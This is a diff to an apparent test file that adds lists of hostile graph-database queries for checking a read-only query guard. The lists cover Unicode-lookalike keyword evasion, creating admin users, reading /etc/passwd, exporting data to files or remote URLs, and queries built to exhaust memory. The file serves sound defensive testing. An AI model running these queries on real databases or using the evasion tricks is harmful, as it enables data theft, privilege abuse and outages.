@@ -282,6 +282,77 @@ _DISGUISED = [
     ";",
 ]
 
+_LOOKALIKE = [
+    "MATCH (n) DELET\u0395 n",  # a Greek letter
+    "\u0421REATE (:Dataset {name: 'x'})",  # a Cyrillic one
+    "MATCH (n) \uff33\uff25\uff34 n.class = 'x'",  # full width
+    "MATCH (n) \U0001d403ELETE n",  # mathematical bold
+    "MATCH (n) \u017fET n.class = 'x'",  # a long s, whose capital is S
+    "MATCH (n) \u212aILL n",  # the sign of the kelvin, whose small letter is k
+    "MATCH (n) DE\u200dLETE n",
+    "MATCH (n) DE\u00adLETE n",
+    "MATCH (n) DELETE\u2060 n",
+    "RETURN 1\u202e CREATE (:Dataset {name: 'x'})",
+    "RETURN 1\u3000CREATE (:Dataset {name: 'x'})",
+    "RETURN 1\u00a0CREATE (:Dataset {name: 'x'})",
+    "RETURN \u2018a\u2019 CREATE (:Dataset {name: 'x'})",
+    "RETURN 1\uff1b CREATE (:Dataset {name: 'x'})",
+]
+
+_NEWER = [
+    "CYPHER 5 MATCH (n) DELETE n",
+    "CYPHER 25 MATCH (n) RETURN n NEXT CREATE (:Dataset {name: 'x'})",
+    "cypher 25 explain match (n) return n",
+    "EXPLAIN PROFILE MATCH (n) RETURN n",
+    "/* CYPHER 5 */ PROFILE CREATE (:Dataset {name: 'x'})",
+    "MATCH (n:$($x)) RETURN n",
+    "MATCH (n:$any(['Circuit'])) SET n:$('Evil')",
+    "MATCH (n) SET n:$($x)",
+    "MATCH (n) REMOVE n[$x]",
+    "CREATE (n:$($x))",
+    "RETURN $$x$$",
+    "RETURN $$; CREATE (:Dataset {name: 'x'}) $$",
+    "MATCH (c:Circuit) CALL (c) { CREATE (:Dataset {name: 'x'}) } IN 4 CONCURRENT TRANSACTIONS",
+    "MATCH (c:Circuit) CALL { WITH c DETACH DELETE c } IN TRANSACTIONS OF 1 ROW ON ERROR CONTINUE REPORT STATUS AS s",
+    "OPTIONAL CALL (*) { CREATE (:Dataset {name: 'x'}) } RETURN 1",
+    "MATCH ((a:Node)-[:FEEDS]->(b:Node)){1,3} FOREACH (n IN a | SET n.name = 'x')",
+    "MATCH (a:Node) (()-[:FEEDS]->())+ (b:Node) DETACH DELETE a",
+    "USE system SHOW USERS",
+    "USE system CREATE USER evil SET PASSWORD 'evil-evil' CHANGE NOT REQUIRED",
+    "USE graph.byName('system') MATCH (n) RETURN n",
+    "CALL db.create.setNodeVectorProperty(n, 'x', [1.0])",
+    "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
+    "CALL dbms.security.createUser('evil', 'evil-evil', false)",
+    "CALL db.createLabel('Evil')",
+    "CALL db.index.fulltext.createNodeIndex('evil', ['Circuit'], ['class'])",
+    "CALL db.clearQueryCaches()",
+    "CALL dbms.listConfig() YIELD name RETURN name",
+    "MATCH (n) WHERE EXISTS { CALL db.createLabel('Evil') } RETURN n",
+    "SHOW USERS YIELD user RETURN user",
+    "SHOW INDEXES YIELD name RETURN name",
+    "TERMINATE TRANSACTIONS 'a', 'b' YIELD message RETURN message",
+    "LOAD CSV FROM $x AS row RETURN row",
+    "MATCH (n) LOAD CSV FROM 'https://example.org/' + n.id AS row RETURN row",
+    "CALL apoc.export.csv.all('/tmp/stolen.csv', {})",
+    "RETURN vector.similarity.cosine([1.0], [1.0])",
+    "RETURN reduce(a = 0, x IN [1] | a + x)",
+    "CALL show_functions() RETURN *",
+    "CALL db_version() RETURN version",
+    "CALL table_info('Circuit') RETURN *",
+    "CALL checkpoint_threshold = 1",
+    "CALL progress_bar = true",
+    "CALL clear_attached_db_schema_cache()",
+    "CALL create_fts_index('Circuit', 'evil', ['class'])",
+    "CALL project_graph('evil', ['Circuit'], ['HAS'])",
+    "PROJECT GRAPH evil (Circuit) MATCH (n) RETURN n",
+    "PRAGMA threads = 1",
+    "SET threads = 1",
+    "VACUUM",
+    "RETURN current_setting('threads')",
+    "RETURN read_text('/etc/passwd')",
+    "MATCH (c:Circuit) RETURN c.id INTO OUTFILE '/tmp/stolen.csv'",
+]
+
 _EXHAUSTING = [
     "RETURN " + "(" * 5000 + "1" + ")" * 5000,
     "RETURN " + "[" * 200 + "]" * 200,
@@ -293,6 +364,48 @@ _EXHAUSTING = [
     "RETURN [" + "1, " * 6000 + "1]",
     "RETURN 1 AS a" + " UNION ALL RETURN 1 AS a" * 500,
     "RETURN '" + "x" * 30_000 + "'",
+    "WITH 'aaaaaaaaaaaaaaaa' AS a " + "WITH a + a + a + a AS a " * 20 + "RETURN size(a)",
+    "WITH [1, 2, 3, 4] AS a " + "WITH a + a + a + a AS a " * 20 + "RETURN 7 IN a",
+    "WITH [1, 2, 3, 4] AS a " + "WITH [a, a, a, a] AS a " * 20 + "RETURN a",
+    "WITH {b: 1} AS a " + "WITH {b: a, c: a} AS a " * 30 + "RETURN a",
+    "WITH [1, 2, 3, 4] AS a UNWIND [1] AS b " + "UNWIND [a + a + a + a] AS a " * 20 + "RETURN a",
+    "WITH [1, 2, 3, 4, 5, 6, 7, 8] AS a " + "WITH [x IN a | a] AS a " * 8 + "RETURN a",
+    "WITH [1, 2, 3, 4, 5, 6, 7, 8] AS a RETURN [x IN a WHERE x:A | [y IN a | [z IN a | a]]]",
+    "MATCH (a) RETURN [(a)-->(b) | [(b)-->(d) | [(d)-->(e) | e.name]]]",
+    "WITH ['a', 'b'] AS a RETURN any(x IN a WHERE any(y IN a WHERE any(z IN a WHERE x + y + z = 'no')))",
+    "RETURN size(" + "replace(" * 6 + "'a'" + ", 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')" * 6 + ")",
+    "RETURN size(replace($x, 'a', $x))",
+    "RETURN cast(NULL, 'INT64[2000000000]')",
+    "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(.*a){20}b'",
+    "RETURN " + "CASE WHEN true THEN " * 20 + "1" + " END" * 20,
+    "MATCH (a) WHERE " + "EXISTS { MATCH (a) WHERE " * 20 + "true" + "}" * 20 + " RETURN 1",
+    "MATCH (c:Circuit) WHERE " + " XOR ".join(f"(c.n_edges = {i})" for i in range(30)) + " RETURN 1",
+    "MATCH (c:Circuit) WHERE " + "NOT " * 300 + "true RETURN 1",
+    "MATCH " + ", ".join(f"(a:Node)-[:FEEDS]->(b{i}:Node)" for i in range(20)) + " RETURN count(*)",
+    " ".join(f"MATCH (a:Node)-[:FEEDS]->(b{i}:Node)" for i in range(20)) + " RETURN count(*)",
+    "MATCH " + ", ".join(f"(a{i})-->(a{j})" for i in range(9) for j in range(i)) + " RETURN count(*)",
+    "MATCH (a)" + "".join(f"--(a{i})" for i in range(30)) + " RETURN count(*)",
+    "MATCH (a:" + "|".join(["Node"] * 300) + ") RETURN 1",
+    "MATCH (a:Node) RETURN a" + ".name" * 300,
 ]
+"""What no timeout would end; ten and more of them did keep an engine busy, or took all memory."""
 
-HOSTILE = [*_WRITES, *_SCHEMA, *_OUTSIDE, *_FUNCTIONS, *_STATEMENTS, *_DISGUISED, *_EXHAUSTING]
+ENDLESS = [
+    "MATCH (a), (b), (c), (d), (e), (f), (g), (h) WHERE a.name < b.name AND c.name < d.name RETURN count(*)",
+    "UNWIND [1, 2, 3, 4, 5, 6, 7, 8, 9, 10] AS a "
+    + "".join(f"UNWIND [1, 2, 3, 4, 5, 6, 7, 8, 9, 10] AS a{i} " for i in range(11))
+    + "RETURN collect(a)",
+    "UNWIND [1, 2, 3, 4, 5, 6, 7, 8, 9, 10] AS a "
+    + "".join(f"UNWIND [1, 2, 3, 4, 5, 6, 7, 8, 9, 10] AS a{i} " for i in range(11))
+    + "RETURN a + a1 + a2 + a3 + a4 AS s ORDER BY s DESC",
+    "UNWIND [1, 2, 3, 4, 5, 6, 7, 8, 9, 10] AS a "
+    + "".join(f"UNWIND [1, 2, 3, 4, 5, 6, 7, 8, 9, 10] AS a{i} " for i in range(8))
+    + "RETURN DISTINCT a + a1, a2 + a3, a4 + a5",
+    "MATCH p = (a)-[*1..30]-(b) RETURN length(p), count(*)",
+]
+"""Allowed, and without an end: they meet the timeout or the limit on memory, and the engine goes on."""
+
+WRITING = [*_WRITES, *_SCHEMA]
+"""Statements that would change data or schema; some are of one engine alone."""
+
+HOSTILE = [*_WRITES, *_SCHEMA, *_OUTSIDE, *_FUNCTIONS, *_STATEMENTS, *_DISGUISED, *_LOOKALIKE, *_NEWER, *_EXHAUSTING]
